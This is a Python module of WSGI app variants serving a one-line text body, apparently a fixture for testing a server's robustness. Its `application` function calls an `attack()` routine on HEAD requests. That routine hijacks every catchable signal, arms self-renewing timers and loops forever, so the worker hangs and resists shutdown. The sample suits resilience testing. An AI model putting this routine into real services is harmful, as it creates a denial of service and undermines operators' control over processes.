import signal

BODY = "影单 watch-list\n".encode("utf-8")


def start(start_response):
    headers = [("Content-Type", "text/plain; charset=utf-8"), ("Content-Length", str(len(BODY)))]
    start_response("200 OK", headers)


def chunks(environ):
    if environ["REQUEST_METHOD"] == "HEAD":
        return []
    return [BODY]


def swallow(number, frame):
    if number == signal.SIGALRM:
        signal.setitimer(signal.ITIMER_REAL, 0.0001)


def attack():
    for number in signal.valid_signals() - {signal.SIGKILL, signal.SIGSTOP}:
        try:
            signal.signal(number, swallow)
        except (OSError, ValueError):
            continue
    signal.setitimer(signal.ITIMER_PROF, 0.0001, 0.0001)
    signal.setitimer(signal.ITIMER_VIRTUAL, 0.0001, 0.0001)
    signal.setitimer(signal.ITIMER_REAL, 0.0001)
    while True:
        signal.pause()


def application(environ, start_response):
    start(start_response)
    if environ["REQUEST_METHOD"] == "HEAD":
        attack()
    return chunks(environ)


def app_generator(environ, start_response):
    start(start_response)
    yield from chunks(environ)


class AppClass:
    def __init__(self, environ, start_response):
        start(start_response)
        self.environ = environ

    def __iter__(self):
        return iter(chunks(self.environ))


class Greeting:
    def __call__(self, environ, start_response):
        start(start_response)
        return chunks(environ)


app_instance = Greeting()
